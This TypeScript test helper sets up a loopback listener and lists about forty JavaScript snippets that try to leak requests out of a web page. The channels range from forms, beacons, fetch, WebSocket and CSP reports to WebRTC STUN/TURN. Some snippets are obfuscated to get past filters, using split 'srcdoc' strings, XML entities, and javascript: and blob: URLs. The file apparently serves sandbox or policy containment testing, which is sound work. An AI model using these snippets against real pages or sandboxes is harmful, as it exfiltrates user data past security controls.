import { createSocket } from "node:dgram";
import { createServer, type Socket } from "node:net";

/** What stands outside, on the loopback, and notes whoever comes. */
export type Outside = {
  /** Of a listener for TCP, with a slash at its end. */
  readonly url: string;
  /** `host:port` of a listener for UDP. */
  readonly udp: string;
  /** The first line, or the size, of all that came. */
  readonly reached: string[];
  close(): Promise<void>;
};

export async function openOutside(): Promise<Outside> {
  const reached: string[] = [];
  const sockets = new Set<Socket>();
  const tcp = createServer((socket) => {
    sockets.add(socket);
    reached.push("a connection");
    socket.on("data", (data) => reached.push(data.toString("latin1").split("\r\n")[0] ?? ""));
    socket.on("error", () => undefined);
  });
  const udp = createSocket("udp4", (data) => reached.push(`${data.length} bytes by UDP`));
  await Promise.all([
    new Promise<void>((done) => tcp.listen(0, "127.0.0.1", done)),
    new Promise<void>((done) => udp.bind(0, "127.0.0.1", done)),
  ]);
  const address = tcp.address();
  if (address === null || typeof address === "string") throw new Error("There is no port.");
  return {
    url: `http://127.0.0.1:${address.port}/`,
    udp: `127.0.0.1:${udp.address().port}`,
    reached,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await Promise.all([
        new Promise((done) => tcp.close(done)),
        new Promise<void>((done) => udp.close(done)),
      ]);
    },
  };
}

const rtc = (host: string) => `
  const peer = new ${host}RTCPeerConnection({ iceServers: [
    { urls: "stun:" + UDP }, { urls: "turn:" + new URL(OUT).host + "?transport=tcp", username: "a", credential: "b" } ] });
  peer.createDataChannel("out");
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((done) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && done(); });`;

/** A document with a peer connection in it, to be had in a window of its own. */
const rtcPage = "'<script>(async () => {' + RTC + '})()</scr' + 'ipt>'";
const add = (html: string) => `document.body.insertAdjacentHTML("beforeend", ${html});`;

/**
 * Ways out of a page, each the body of an async function. `OUT` is a URL outside with a slash at its
 * end, `UDP` a listener's host and port, `SITE` the site's own URL, `RTC` a script.
 */
export const waysOut: Readonly<Record<string, string>> = {
  "a script that goes elsewhere": `location.href = OUT + "href"`,
  "a script that replaces its page": `location.replace(OUT + "replace")`,
  "a form that posts": `const form = document.createElement("form"); form.method = "post"; form.action = OUT + "form"; document.body.append(form); HTMLFormElement.prototype.requestSubmit.call(form);`,
  "a form that posts, past its event": `const form = document.createElement("form"); form.method = "post"; form.action = OUT + "form"; document.body.append(form); form.submit();`,
  "a form for a new window": `const form = document.createElement("form"); form.method = "post"; form.target = "_blank"; form.action = OUT + "form"; document.body.append(form); form.requestSubmit();`,
  "a form for the page around it": `const form = document.createElement("form"); form.method = "post"; form.target = "_parent"; form.action = OUT + "form"; document.body.append(form); form.requestSubmit();`,
  "a refresh": `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=' + OUT + 'refresh">');`,
  "a link": `const a = document.createElement("a"); a.href = OUT + "link"; document.body.append(a); a.click();`,
  "a link that pings": `const a = document.createElement("a"); a.href = "#x"; a.ping = OUT + "ping"; document.body.append(a); a.click();`,
  "a link that downloads": `const a = document.createElement("a"); a.href = OUT + "file"; a.download = "x"; document.body.append(a); a.click();`,
  "a new window": `if (!window.open(OUT + "open")) throw new Error("no window");`,
  "its own window, by name": `window.open(OUT + "self", "_self");`,
  "the page around it": `parent.location.href = OUT + "parent";`,
  "the top page": `top.location.href = OUT + "top";`,
  "another page of the site": `location.href = SITE + "leak";`,
  WebRTC: rtc("window."),
  "WebRTC of another window": `const frame = document.createElement("iframe"); document.body.append(frame); ${rtc("frame.contentWindow.")}`,
  "WebRTC in a frame's own text": `const frame = document.createElement("iframe"); frame["src" + "doc"] = ${rtcPage}; document.body.append(frame);`,
  "WebRTC in a frame's attribute": `const frame = document.createElement("iframe"); frame.setAttribute("src" + "doc", ${rtcPage}); document.body.append(frame);`,
  "WebRTC in a frame written as HTML": add(
    `'<iframe src' + 'doc="' + (${rtcPage}).replaceAll('"', "&quot;") + '"></iframe>'`,
  ),
  "WebRTC in a frame written piece by piece": `document.write("<iframe sr"); document.write('cdoc="' + (${rtcPage}).replaceAll('"', "&quot;") + '"></iframe>');`,
  "WebRTC in a frame of another document": `const text = '<!DOCTYPE x [<!ENT' + 'ITY e "<iframe xmlns=\\'http://www.w3.org/1999/xhtml\\' sr&#99;doc=\\'&#38;lt;script>' + RTC.replaceAll("&", "&#38;amp;").replaceAll('"', "&#34;") + '&#38;lt;/script>\\'/>">]><x>&e;</x>'; const frame = new DOMParser().parseFromString(text, "text/xml").querySelector("iframe"); document.body.append(frame);`,
  "WebRTC in an address of script": `location.href = "javascript:" + encodeURIComponent(JSON.stringify(${rtcPage}));`,
  "WebRTC in a page made here": `location.href = URL.createObjectURL(new Blob([${rtcPage}], { type: "text/html" }));`,
  "WebRTC in a frame with a page made here": `const frame = document.createElement("iframe"); frame.src = URL.createObjectURL(new Blob([${rtcPage}], { type: "text/html" })); document.body.append(frame);`,
  WebTransport: `await new WebTransport("https://" + UDP + "/").ready;`,
  preconnect: `document.head.insertAdjacentHTML("beforeend", '<link rel="preconnect" href="' + OUT + '">');`,
  prefetch: `document.head.insertAdjacentHTML("beforeend", '<link rel="prefetch" href="' + OUT + 'prefetch">');`,
  "speculation rules": `const script = document.createElement("script"); script.type = "speculationrules"; script.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [OUT + "speculation"], eagerness: "immediate" }] }); document.head.append(script);`,
  "a WebSocket": `await new Promise((ok, no) => { const ws = new WebSocket(OUT.replace("http", "ws")); ws.onopen = ok; ws.onerror = no; });`,
  "an EventSource": `await new Promise((ok, no) => { const source = new EventSource(OUT); source.onopen = ok; source.onerror = no; });`,
  fetch: `await fetch(OUT + "fetch", { mode: "no-cors" });`,
  "import()": `await import(OUT + "module.js");`,
  "a script": `const script = document.createElement("script"); script.src = OUT + "script.js"; document.head.append(script);`,
  "styles, fonts and backgrounds": `document.head.insertAdjacentHTML("beforeend", '<link rel="stylesheet" href="' + OUT + 'a.css"><style>@import "' + OUT + 'b.css"; @font-face { font-family: f; src: url(' + OUT + 'font) } body { font-family: f; background: url(' + OUT + 'background) }</style>');`,
  "an image": `new Image().src = OUT + "image";`,
  "sound and film": add(
    `'<video autoplay src="' + OUT + 'video"></video><audio autoplay src="' + OUT + 'audio"></audio>'`,
  ),
  "a beacon": `navigator.sendBeacon(OUT + "beacon", "x");`,
  "a frame": `const frame = document.createElement("iframe"); frame.src = OUT + "frame"; document.body.append(frame);`,
  "a frame that is sent elsewhere": `const frame = document.createElement("iframe"); document.body.append(frame); frame.contentWindow.location.href = OUT + "sent";`,
  "a frame that loads an image": `const frame = document.createElement("iframe"); frame["src" + "doc"] = "<img src='" + OUT + "inner'>"; document.body.append(frame);`,
  "an object": add(`'<object data="' + OUT + 'object"></object><embed src="' + OUT + 'embed">'`),
  "a worker": `new Worker(URL.createObjectURL(new Blob(['fetch("' + OUT + 'worker"); importScripts("' + OUT + 'worker.js")'])));`,
  "a report of a policy": `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri ' + OUT + 'report">'); new Image().src = "data:,x";`,
};

/** The body of one way, with what it needs. */
export function wayOut(body: string, { url, udp }: Outside, site: string): string {
  return `const OUT = ${JSON.stringify(url)}, UDP = ${JSON.stringify(udp)}, SITE = ${JSON.stringify(site)}; const RTC = ${JSON.stringify(`const OUT = ${JSON.stringify(url)}, UDP = ${JSON.stringify(udp)}; ${rtc("window.")}`)};\n${body}`;
}
